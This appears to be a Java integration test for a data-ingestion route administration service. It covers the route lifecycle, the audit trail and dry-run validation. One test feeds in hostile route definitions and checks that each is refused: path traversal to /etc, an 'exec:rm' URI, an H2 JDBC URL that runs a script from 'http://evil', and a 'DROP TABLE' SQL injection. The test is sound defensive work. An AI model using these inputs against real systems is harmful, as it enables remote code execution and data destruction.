package io.refinery.ingestion.admin;

import io.refinery.ingestion.DriftPolicy;
import io.refinery.ingestion.Entity;
import io.refinery.ingestion.IngestionIntegrationTest;
import io.refinery.ingestion.RouteDefinition;
import io.refinery.ingestion.RouteKind;
import io.refinery.warehouse.ingest.IngestRecords.RouteAuditEntry;
import org.apache.camel.CamelContext;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

@IngestionIntegrationTest
class RouteAdminTest {

    @Autowired
    RouteAdmin admin;
    @Autowired
    CamelContext camel;

    static Path inbox() throws Exception {
        return Files.createDirectories(Path.of(System.getProperty("java.io.tmpdir"), "admin-inbox-" + System.nanoTime()));
    }

    @Test
    void aRouteIsCreatedStartedUpdatedWithHotReloadStoppedAndDeletedWithAnAuditTrail() throws Exception {
        Path inbox = inbox();
        RouteDefinition v1 = new RouteDefinition("admin-lifecycle", RouteKind.FILE_DROP, Entity.PRODUCTS,
                DriftPolicy.ACCEPT_AND_FLAG, Map.of("inbox", inbox.toString()));

        admin.create(v1, "alice");
        assertThat(admin.get("admin-lifecycle").orElseThrow().status()).isEqualTo("not-running");
        admin.start("admin-lifecycle", "alice");
        assertThat(camel.getRoute("admin-lifecycle")).isNotNull();
        assertThat(camel.getRoute("admin-lifecycle").getEndpoint().getEndpointUri()).contains("delay=1000");

        RouteView updated = admin.update(new RouteDefinition("admin-lifecycle", RouteKind.FILE_DROP, Entity.PRODUCTS,
                DriftPolicy.STOP, Map.of("inbox", inbox.toString(), "pollDelayMs", "250")), "bob");
        assertThat(updated.status()).isEqualTo("started");
        assertThat(camel.getRoute("admin-lifecycle").getEndpoint().getEndpointUri()).contains("delay=250");

        admin.stop("admin-lifecycle", "carol");
        assertThat(camel.getRoute("admin-lifecycle")).isNull();
        admin.delete("admin-lifecycle", "dave");
        assertThat(admin.get("admin-lifecycle")).isEmpty();

        assertThat(admin.audit("admin-lifecycle")).extracting(RouteAuditEntry::actor, RouteAuditEntry::action)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("alice", "create"),
                        org.assertj.core.groups.Tuple.tuple("alice", "start"),
                        org.assertj.core.groups.Tuple.tuple("bob", "update"),
                        org.assertj.core.groups.Tuple.tuple("carol", "stop"),
                        org.assertj.core.groups.Tuple.tuple("dave", "delete"));
        assertThat(admin.audit("admin-lifecycle").get(2).changes())
                .contains("driftPolicy: ACCEPT_AND_FLAG → STOP").contains("options.pollDelayMs: (none) → 250");
    }

    @Test
    void definitionsOutsideTheAllowlistAreRefused() throws Exception {
        Path inbox = inbox();
        assertThatThrownBy(() -> admin.create(new RouteDefinition("admin-escape", RouteKind.FILE_DROP, Entity.PRODUCTS,
                null, Map.of("inbox", "/etc")), "mallory")).hasMessageContaining("outside the allowed roots");
        assertThatThrownBy(() -> admin.create(new RouteDefinition("admin-dotdot", RouteKind.FILE_DROP, Entity.PRODUCTS,
                null, Map.of("inbox", inbox + "/../../../etc")), "mallory")).hasMessageContaining("outside the allowed roots");
        assertThatThrownBy(() -> admin.create(new RouteDefinition("admin-uri", RouteKind.FILE_DROP, Entity.PRODUCTS,
                null, Map.of("inbox", inbox.toString(), "uri", "exec:rm")), "mallory"))
                .hasMessageContaining("option 'uri' is not allowed");
        assertThatThrownBy(() -> admin.create(new RouteDefinition("admin-inject", RouteKind.FILE_DROP, Entity.PRODUCTS,
                null, Map.of("inbox", inbox + "?delete=true")), "mallory")).hasMessageContaining("not allowed");
        assertThatThrownBy(() -> admin.create(new RouteDefinition("admin-secret", RouteKind.REST, Entity.RECEIPTS,
                null, Map.of("url", "https://erp.example/api", "authSecret", "Bearer abc.def")), "mallory"))
                .hasMessageContaining("must name a secret");
        assertThatThrownBy(() -> admin.create(new RouteDefinition("admin-jdbc", RouteKind.JDBC, Entity.RECEIPTS,
                null, Map.of("jdbcUrl", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'", "table", "t",
                "cursorColumn", "id", "cursorType", "number")), "mallory")).hasMessageContaining("jdbcUrl");
        assertThatThrownBy(() -> admin.create(new RouteDefinition("admin-sql", RouteKind.JDBC, Entity.RECEIPTS,
                null, Map.of("jdbcUrl", "jdbc:postgresql://127.0.0.1:5432/test", "table", "t; DROP TABLE x",
                "cursorColumn", "id", "cursorType", "number")), "mallory")).hasMessageContaining("table");
        assertThatThrownBy(() -> RouteKind.of("exec")).hasMessageContaining("not allowed");
        assertThat(admin.list()).noneSatisfy(r -> assertThat(r.definition().id()).startsWith("admin-"));
    }

    @Test
    void aDryRunReadsASampleAndShowsWhatTheContractWouldDoWithoutLandingIt() throws Exception {
        Path inbox = inbox();
        Files.writeString(inbox.resolve("products.csv"), """
                sku,name,category,unit,colour
                p-1,Milk 1L,dairy,pcs,white
                p-2,Bread,,loaf,brown
                """);

        DryRun dryRun = admin.validate(new RouteDefinition("admin-dry", RouteKind.FILE_DROP, Entity.PRODUCTS, null,
                Map.of("inbox", inbox.toString())), 10);

        assertThat(dryRun.valid()).isTrue();
        assertThat(dryRun.connected()).isTrue();
        assertThat(dryRun.sampleSource()).isEqualTo("products.csv");
        assertThat(dryRun.preview().records()).isEqualTo(2);
        assertThat(dryRun.preview().valid()).isEqualTo(1);
        assertThat(dryRun.preview().problems()).singleElement().asString().contains("allowed").contains("unit");
        assertThat(dryRun.preview().drift()).anySatisfy(d -> assertThat(d.column()).isEqualTo("colour"));
        assertThat(dryRun.preview().typed().getFirst()).containsEntry("unit", "EA").containsEntry("sku", "P-1");
        assertThat(Files.exists(inbox.resolve("products.csv"))).isTrue();
    }
}
